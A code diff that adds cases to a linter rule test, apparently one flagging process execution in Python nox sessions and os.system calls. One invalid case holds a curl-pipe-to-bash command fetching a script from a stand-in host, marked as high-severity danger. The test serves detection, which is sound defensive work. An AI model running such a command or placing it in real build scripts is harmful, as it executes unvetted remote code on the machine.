@@ -20,8 +20,18 @@ ruleTester(rule, {
     'def helper(c):\n    c.run("make")',
     'import os\nos.path.join("a", "b")',
     'loop.run_until_complete(main())',
+    'def count(session):\n    return session.run("MATCH (n) RETURN count(n)")',
+    'import nox\ndef helper(session):\n    session.run("pytest")',
   ],
   invalid: [
+    {
+      code: "import nox\n@nox.session\ndef tests(session):\n    session.run('bash', '-c', 'curl -fsSL https://x.example/ci.sh | bash', external=True)",
+      errors: [{ messageId: 'danger', line: 4, severity: 'high' }],
+    },
+    {
+      code: "import nox\n@nox.session(python=['3.11'])\ndef lint(session):\n    session.run_always('pip', 'install', extra)",
+      errors: [{ messageId: 'runs', line: 4 }],
+    },
     {
       code: "import os\nos.system(f'git clone {url}')",
       errors: [{ messageId: 'runsDynamic', line: 2, column: 1, severity: 'high', category: 'process' }],
